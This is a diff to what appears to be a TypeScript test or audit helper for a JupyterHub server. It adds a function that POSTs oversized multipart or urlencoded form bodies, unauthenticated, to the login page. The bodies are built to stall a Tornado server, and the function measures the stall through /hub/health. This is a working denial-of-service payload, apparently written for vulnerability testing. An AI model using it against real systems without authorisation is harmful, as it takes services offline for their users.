@@ -87,3 +87,34 @@ export async function labPageConfig(s: HubSession): Promise<Record<string, unkno
   if (!json) throw new Error(`no page config in /user/${s.user}/lab (HTTP ${lab.status})`);
   return JSON.parse(json) as Record<string, unknown>;
 }
+
+/**
+ * Unauthenticated form bodies that hold a tornado server for seconds on Debian's 6.4.2: a
+ * multipart body of `parts` parts, or an urlencoded one of `fields` fields, POSTed to the login
+ * page while /hub/health is asked. Returns the POST's status and time, and the slowest health answer.
+ */
+export async function hugeForm(hub: string, kind: 'multipart' | 'urlencoded', count: number): Promise<{ status: number; ms: number; slowestHealthMs: number }> {
+  const boundary = 'pihubBoundary';
+  const body = kind === 'multipart'
+    ? `${`--${boundary}\r\nContent-Disposition: form-data; name="a"\r\n\r\nv\r\n`.repeat(count)}--${boundary}--\r\n`
+    : '&'.repeat(count);
+  const type = kind === 'multipart' ? `multipart/form-data; boundary=${boundary}` : 'application/x-www-form-urlencoded';
+  let done = false;
+  let slowestHealthMs = 0;
+  const health = (async () => {
+    while (!done) {
+      const started = Date.now();
+      await fetch(`${hub}/hub/health`).catch(() => undefined);
+      slowestHealthMs = Math.max(slowestHealthMs, Date.now() - started);
+      await new Promise((r) => setTimeout(r, 100));
+    }
+  })();
+  const started = Date.now();
+  try {
+    const res = await httpRequest(`${hub}/hub/login`, 'POST', { 'User-Agent': UA, 'Content-Type': type }, body);
+    return { status: res.status, ms: Date.now() - started, slowestHealthMs };
+  } finally {
+    done = true;
+    await health;
+  }
+}
